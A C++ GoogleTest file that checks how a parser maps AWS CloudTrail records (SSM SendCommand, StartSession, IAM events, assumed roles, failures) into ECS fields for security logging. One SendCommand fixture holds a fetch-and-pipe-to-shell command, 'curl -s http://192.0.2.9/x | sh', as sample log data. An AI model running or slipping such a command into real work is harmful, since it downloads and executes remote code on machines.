// What a record becomes in ECS: who, what, which machines, with which result.
#include <gmock/gmock.h>
#include <gtest/gtest.h>

#include "parsers/aws_cloudtrail/parser.hpp"
#include "tests/parsers/common/parser_run.hpp"
#include "tests/support/trail_records.hpp"

namespace stemma::cloudtrail {
namespace {

using namespace support;
using test::one;
using testing::ElementsAre;

golden::Document read(const TrailRecord& record) {
  const test::ParserRun run = test::run_parser(*make_parser(), record.dump());
  EXPECT_EQ(run.events.size(), 1u) << test::books(run.log);
  return run.events.empty() ? golden::Document{} : run.events[0];
}

TEST(TrailMapping, SendCommand) {
  EXPECT_EQ(read(send_command("4bf1d0a2-0000-0000-0000-000000000001")),
            golden::flatten(nlohmann::json::parse(R"json({
    "@timestamp": "2026-05-12T09:14:02Z",
    "aws": {"cloudtrail": {
      "api_version": [],
      "command_id": "4bf1d0a2-0000-0000-0000-000000000001",
      "event_category": "Management", "event_name": "SendCommand", "event_type": "AwsApiCall",
      "event_version": "1.08",
      "flattened": {
        "request_parameters": {"documentName": "AWS-RunShellScript", "instanceIds": ["i-0aaa", "i-0bbb"],
                               "parameters": {"commands": ["id", "curl -s http://192.0.2.9/x | sh"]}},
        "response_elements": {"command": {"commandId": "4bf1d0a2-0000-0000-0000-000000000001",
                              "documentName": "AWS-RunShellScript", "instanceIds": ["i-0aaa", "i-0bbb"],
                              "status": "Pending"}}
      },
      "instance_ids": ["i-0aaa", "i-0bbb"],
      "management_event": true, "read_only": false,
      "recipient_account_id": "111122223333",
      "request_id": "33333333-095c-47d0-a96f-a75130c61d53",
      "request_parameters": "{\"documentName\":\"AWS-RunShellScript\",\"instanceIds\":[\"i-0aaa\",\"i-0bbb\"],\"parameters\":{\"commands\":[\"id\",\"curl -s http://192.0.2.9/x | sh\"]}}",
      "response_elements": "{\"command\":{\"commandId\":\"4bf1d0a2-0000-0000-0000-000000000001\",\"documentName\":\"AWS-RunShellScript\",\"instanceIds\":[\"i-0aaa\",\"i-0bbb\"],\"status\":\"Pending\"}}",
      "user_identity": {"type": "IAMUser", "arn": "arn:aws:iam::111122223333:user/ada", "access_key_id": "AKIAEXAMPLE"}
    }},
    "cloud": {"provider": "aws", "region": "eu-west-1", "account": {"id": "111122223333"}},
    "event": {"action": "SendCommand", "dataset": "aws.cloudtrail", "kind": "event", "module": "aws",
              "provider": "ssm.amazonaws.com", "outcome": "success", "type": ["info"],
              "id": "22222222-095c-47d0-a96f-a75130c61d53"},
    "related": {"ip": ["192.0.2.7"], "user": ["ada"]},
    "source": {"ip": "192.0.2.7", "address": "192.0.2.7"},
    "user": {"id": "AIDAEXAMPLE", "name": "ada"},
    "user_agent": {"original": "aws-cli/2.15"}
  })json")));
}

TEST(TrailMapping, HiddenParameters) {
  const golden::Document event = read(send_command("c-1", true));
  EXPECT_EQ(one(event, "aws.cloudtrail.flattened.request_parameters.parameters"),
            "HIDDEN_DUE_TO_SECURITY_REASONS");
}

TEST(TrailMapping, StartSession) {
  const golden::Document event = read(start_session("ada-0123456789abcdef0"));
  EXPECT_THAT(event.at("aws.cloudtrail.instance_ids"), ElementsAre("i-0aaa"));
  EXPECT_EQ(one(event, "aws.cloudtrail.flattened.response_elements.sessionId"),
            "ada-0123456789abcdef0");
  EXPECT_EQ(one(event, "aws.cloudtrail.command_id"), "-");
}

TEST(TrailMapping, TargetsOfACommand) {
  TrailRecord record = send_command("c-1");
  record["requestParameters"] = {
      {"targets",
       {{{"key", "InstanceIds"}, {"values", {"i-0ccc", "mi-0ddd", "i-0ccc"}}},
        {{"key", "tag:role"}, {"values", {"i-web"}}}}}};
  record["responseElements"] = nullptr;
  EXPECT_THAT(read(record).at("aws.cloudtrail.instance_ids"), ElementsAre("i-0ccc", "mi-0ddd"));

  TrailRecord run = trail_record("ec2.amazonaws.com", "RunInstances");
  run["responseElements"] = {{"instancesSet", {{"items", {{{"instanceId", "i-0eee"}}}}}}};
  EXPECT_THAT(read(run).at("aws.cloudtrail.instance_ids"), ElementsAre("i-0eee"));
}

TEST(TrailMapping, Outcome) {
  TrailRecord record = send_command("c-1");
  record["errorCode"] = "AccessDenied";
  record["errorMessage"] = "not authorized";
  golden::Document event = read(record);
  EXPECT_EQ(one(event, "event.outcome"), "failure");
  EXPECT_EQ(one(event, "aws.cloudtrail.error_code"), "AccessDenied");
  EXPECT_EQ(one(event, "aws.cloudtrail.error_message"), "not authorized");
  TrailRecord login = trail_record("signin.amazonaws.com", "ConsoleLogin");
  login["responseElements"] = {{"ConsoleLogin", "Failure"}};
  event = read(login);
  EXPECT_EQ(one(event, "event.outcome"), "failure");
  EXPECT_EQ(one(event, "event.category"), "authentication");
}

TEST(TrailMapping, AnAssumedRoleIsNamedByItsIssuer) {
  TrailRecord record = send_command("c-1");
  record["userIdentity"] = {
      {"type", "AssumedRole"},
      {"principalId", "AROAEXAMPLE:session"},
      {"arn", "arn:aws:sts::111122223333:assumed-role/ops/session"},
      {"accountId", "111122223333"},
      {"sessionContext",
       {{"sessionIssuer",
         {{"type", "Role"}, {"userName", "ops"}, {"arn", "arn:aws:iam::111122223333:role/ops"}}},
        {"attributes", {{"mfaAuthenticated", "false"}}}}}};
  const golden::Document event = read(record);
  EXPECT_EQ(one(event, "user.name"), "ops");
  EXPECT_EQ(one(event, "user.id"), "AROAEXAMPLE:session");
  EXPECT_EQ(one(event, "aws.cloudtrail.user_identity.session_context.session_issuer.arn"),
            "arn:aws:iam::111122223333:role/ops");
  EXPECT_EQ(one(event, "aws.cloudtrail.user_identity.session_context.mfa_authenticated"), "false");
}

TEST(TrailMapping, AServiceAsked) {
  TrailRecord record = send_command("c-1");
  record["sourceIPAddress"] = "ssm.amazonaws.com";
  record["recipientAccountId"] = "999900001111";
  const test::ParserRun run = test::run_parser(*make_parser(), record.dump());
  ASSERT_EQ(run.events.size(), 1u);
  EXPECT_EQ(one(run.events[0], "source.address"), "ssm.amazonaws.com");
  EXPECT_EQ(one(run.events[0], "source.ip"), "-");
  EXPECT_EQ(one(run.events[0], "cloud.account.id"), "111122223333");
  EXPECT_EQ(run.hosts[0], "aws:999900001111");  // the trail is that account's
}

TEST(TrailMapping, Categories) {
  const auto kind = [](const char* source, const char* name) {
    const golden::Document event = read(trail_record(source, name));
    std::string text = one(event, "event.category");
    for (const std::string& type : event.at("event.type")) text += " " + type;
    return text;
  };
  EXPECT_EQ(kind("iam.amazonaws.com", "CreateUser"), "iam user creation");
  EXPECT_EQ(kind("iam.amazonaws.com", "CreateAccessKey"), "iam user change");
  EXPECT_EQ(kind("iam.amazonaws.com", "DeleteGroup"), "iam group deletion");
  EXPECT_EQ(kind("iam.amazonaws.com", "AddUserToGroup"), "iam group change");
  EXPECT_EQ(kind("iam.amazonaws.com", "ListUsers"), "iam user info");
  EXPECT_EQ(kind("iam.amazonaws.com", "UpdateRole"), "iam admin change");
  EXPECT_EQ(kind("iam.amazonaws.com", "ChangePassword"), "iam user change");
  EXPECT_EQ(kind("iam.amazonaws.com", "UpdateAccountPasswordPolicy"), "iam admin change");
  EXPECT_EQ(kind("ec2.amazonaws.com", "CreateKeyPair"), "iam admin creation");
  EXPECT_EQ(kind("sts.amazonaws.com", "AssumeRole"), "authentication info");
  EXPECT_EQ(kind("s3.amazonaws.com", "DeleteBucket"), "file deletion");
  EXPECT_EQ(kind("ssm.amazonaws.com", "SendCommand"), "- info");
}

}  // namespace
}  // namespace stemma::cloudtrail
